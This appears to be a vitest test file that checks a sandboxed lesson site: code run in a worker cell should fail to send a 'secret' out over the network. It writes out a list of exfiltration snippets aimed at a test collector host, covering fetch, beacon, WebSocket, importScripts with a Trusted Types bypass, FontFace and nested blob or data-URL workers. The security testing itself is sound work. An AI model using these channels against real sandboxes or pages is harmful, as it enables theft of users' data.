/** A cell tries to reach the network, with the prelude and without it: nothing arrives anywhere. */
import { describe, expect } from 'vitest';
import type { Collector } from '../site/collect-requests.ts';
import { LESSON, test } from '../site/test.ts';
import { attack, attempting, expectNextRunWorks, UNDER_ATTACK } from './attack-page.ts';
import { codeOf } from './ways-out.ts';

/** The worker's own way to say yes to an address: the policy on Trusted Types is no boundary in there. */
const TRUST = "const { createScriptURL } = trustedTypes.createPolicy('wb-sandbox', { createScriptURL: (url) => url });";

/** A program that takes the secret out, as text in the text of a cell. */
const stealing = ({ origin }: Collector): string =>
  JSON.stringify(
    `fetch('${origin}/nested', { mode: 'no-cors' }).finally(() => postMessage('done'), setTimeout(close, 100));`,
  );

/** Starts a worker of the worker's own and waits until it has tried. */
const nested = (url: string): string => `${TRUST}
  const inner = new Worker(createScriptURL(${url}));
  await new Promise((resolve, reject) => { inner.onmessage = resolve; inner.onerror = reject; });`;

/** Waits for one of two events of something that connects. */
const until = (good: string): string =>
  `await new Promise((resolve, reject) => { it.on${good} = resolve; it.onerror = () => reject('error'); });`;

const CHANNELS: Readonly<Record<string, (collector: Collector) => string>> = {
  'a POST that outlives the page': ({ origin }) =>
    `await fetch('${origin}/post', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' });`,
  XMLHttpRequest: ({ origin }) =>
    `const it = new XMLHttpRequest(); it.open('GET', '${origin}/xhr'); it.send(); ${until('load')}`,
  WebSocket: ({ origin }) => `const it = new WebSocket('${origin.replace('http', 'ws')}/socket'); ${until('open')}`,
  EventSource: ({ origin }) => `const it = new EventSource('${origin}/events'); ${until('open')}`,
  importScripts: ({ origin }) => `importScripts('${origin}/script.js');`,
  'importScripts with a trusted address': ({ origin }) =>
    `${TRUST} importScripts(createScriptURL('${origin}/script.js'));`,
  FontFace: ({ origin }) => `await new FontFace('stolen', 'url(${origin}/font)').load();`,
  sendBeacon: ({ origin }) => `navigator.sendBeacon('${origin}/beacon', 'secret');`,
  'a worker in the worker, from a blob': (collector) =>
    nested(`URL.createObjectURL(new Blob([${stealing(collector)}], { type: 'text/javascript' }))`),
  'a worker in the worker, from a data address': (collector) =>
    nested(`'data:text/javascript,' + encodeURIComponent(${stealing(collector)})`),
};

describe.for([true, false])('with the prelude: %s', (prelude) => {
  test.for(['foreign fetch', 'own fetch', 'import over http', 'import of data'] as const)(
    '%s is refused',
    async (way, { serve, openPage, collector }) => {
      const site = await serve({ prelude });
      const page = await openPage(site.url(LESSON.en), UNDER_ATTACK);
      const shown = await attack(page, attempting(codeOf(way, { collector, site })));
      expect(shown).toContain('was refused');
      await expectNextRunWorks(page);
      expect(collector.hits).toEqual([]);
      expect(site.requests.filter((path) => path.includes('secret'))).toEqual([]);
    },
  );

  test.for(Object.keys(CHANNELS))('%s takes nothing out', async (name, { serve, openPage, collector }) => {
    const page = await openPage((await serve({ prelude })).url(LESSON.en), UNDER_ATTACK);
    const shown = await attack(page, attempting(CHANNELS[name]!(collector)));
    // A worker in the worker does start when the prelude has not taken it away; it has no more than its maker.
    if (prelude || !name.startsWith('a worker')) expect(shown).toContain('was refused');
    await expectNextRunWorks(page);
    expect(collector.hits).toEqual([]);
  });
});
